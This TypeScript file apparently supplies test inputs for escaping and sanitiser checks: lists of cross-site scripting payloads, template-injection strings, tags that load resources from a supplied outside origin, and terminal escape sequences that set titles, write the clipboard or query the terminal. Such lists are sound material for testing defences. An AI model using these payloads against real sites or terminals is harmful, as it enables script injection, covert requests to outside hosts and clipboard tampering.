// Texts that run, load or rewrite something where they are taken for more than text.

/** `elsewhere` is the origin that some of them would fetch from. None is longer than 80 characters. */
export function texts(elsewhere: string): string[] {
  const host = elsewhere.replace("http:", "");
  return [
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</style><script>xss()</script>",
    "--><script>xss()</script><!--",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<math><mtext></mtext><img src=x onerror=xss()></math>",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    "<iframe src=javascript:parent.xss()>",
    "<object data=javascript:xss()>",
    "<a href=javascript:xss() id=x>x</a>",
    '" onmouseover=xss() x="',
    "' autofocus onfocus=xss() x='",
    '"><img src=x onerror=xss()>',
    "'><svg/onload=xss()>",
    "`-xss()-`",
    "${xss()}",
    "{{constructor.constructor('xss()')()}}",
    "javascript:xss()",
    "java\u0001script:xss()".replace("\u0001", "&#9;"),
    "data:text/html,<script>opener.xss()</script>",
    "&lt;img src=x onerror=xss()&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\\x3cscript\\x3exss()\\x3c/script\\x3e",
    "<ſcript>xss()</ſcript>",
    "＜script＞xss()＜/script＞",
    `<img src=${host}/img>`,
    `<link rel=stylesheet href=${host}/css>`,
    `<link rel=prefetch href=${host}/prefetch>`,
    `<meta http-equiv=refresh content=0;url=${host}/go>`,
    `<base href=${host}/>`,
    `<form action=${host}/form><button>x`,
    `<style>@import '${host}/import'</style>`,
    `<p style="background:url(${host}/bg)">`,
    `x;background:url(${host}/style)`,
    `url(${host}/url)`,
    `![x](${host}/markdown)`,
    `${elsewhere}/plain`,
    "<!--", "-->", "<![CDATA[", "<template>", "</div></main></body></html>", "<plaintext>", "<noscript>",
    "<div id=app>", "<script id=seed type=application/json>{}</script>", "]]>", "__proto__", "</scr\\ipt>",
  ];
}

/** The same in the language of terminals: titles, links, clipboard, answers, pictures. */
export function sequences(elsewhere: string): string[] {
  const esc = "\\033";
  return [
    `${esc}]0;<img src=x onerror=xss()>\\007`,
    `${esc}]2;</title><script>xss()</script>${esc}\\\\`,
    `${esc}]8;;javascript:xss()${esc}\\\\link${esc}]8;;${esc}\\\\`,
    `${esc}]8;;${elsewhere}/osc8${esc}\\\\link${esc}]8;;${esc}\\\\`,
    `${esc}]52;c;eHNzKCk=\\007`,
    `${esc}]52;c;?\\007`,
    `${esc}]1337;File=inline=1:PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==\\007`,
    `${esc}]50;<img src=x onerror=xss()>\\007`,
    `${esc}Ptmux;${esc}${esc}]0;xss${esc}${esc}\\\\${esc}\\\\`,
    `${esc}[21t${esc}[c${esc}[>c${esc}[6n`,
    `${esc}_xss()${esc}\\\\${esc}^xss()${esc}\\\\`,
  ];
}
